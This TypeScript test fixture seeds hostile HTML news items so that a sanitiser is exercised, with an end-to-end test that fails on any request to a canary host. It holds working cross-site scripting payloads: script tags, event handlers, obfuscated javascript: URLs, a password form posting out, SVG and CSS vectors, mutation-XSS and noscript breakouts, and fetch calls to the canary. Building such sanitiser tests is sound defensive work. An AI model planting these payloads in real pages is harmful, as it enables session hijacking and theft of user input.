// Seeded so the sanitiser runs on every start; the e2e test fails on any request to the canary host.
export const HOSTILE_CANARY = 'canary.tickwise.invalid';

export interface HostileSample {
  slug: string;
  title: string;
  html: string;
}

const C = `https://${HOSTILE_CANARY}`;

export const HOSTILE_NEWS: readonly HostileSample[] = [
  {
    slug: 'x-script',
    title: 'Notice: <script>alert("title")</script>maintenance window',
    html: `<p>Scheduled maintenance.</p><script>alert('script');fetch('${C}/script')</script><p>Thank you.</p>`,
  },
  {
    slug: 'x-handlers',
    title: 'Notice: updated fee schedule',
    html: `<p onclick="alert('click')" onmouseover="fetch('${C}/hover')">Fees are unchanged.</p><img src="/news/gold.svg" onerror="alert('onerror')" onload="fetch('${C}/onload')" alt="gold"><body onload="alert('body')">`,
  },
  {
    slug: 'x-javascript-url',
    title: 'Notice: new help centre',
    html: `<p><a href="javascript:alert('js-url')">Open the help centre</a> or <a href="JaVaScRiPt&#58;fetch('${C}/js')">this one</a> or <a href="data:text/html,<script>alert(1)</script>">that one</a>.</p><img src="javascript:alert('img')">`,
  },
  {
    slug: 'x-iframe',
    title: 'Notice: partner video',
    html: `<p>Watch the video:</p><iframe src="${C}/frame" width="300" height="200"></iframe><object data="${C}/object"></object><embed src="${C}/embed"><form action="${C}/form"><input name="pw"><button>Send</button></form>`,
  },
  {
    slug: 'x-svg',
    title: 'Notice: new chart tools',
    html: `<svg onload="alert('svg')"><script>alert('svg-script')</script><image href="${C}/svg-image"/></svg><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><p>Charts now support drawing tools.</p>`,
  },
  {
    slug: 'x-css',
    title: 'Notice: new colours',
    html: `<p style="width: expression(alert('css')); background:url('${C}/css')">Colours refreshed.</p><style>body{background:url('${C}/style')}</style><link rel="stylesheet" href="${C}/link.css"><meta http-equiv="refresh" content="0;url=${C}/meta">`,
  },
  {
    slug: 'x-mixed',
    title: 'Notice: <img src=x onerror=alert(1)> account security',
    html: `<p>Keep your password safe.</p><a href="https://www.example.com/security" onclick="alert('a')" target="_self">Security tips</a><math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('ns')>"></noscript>`,
  },
];
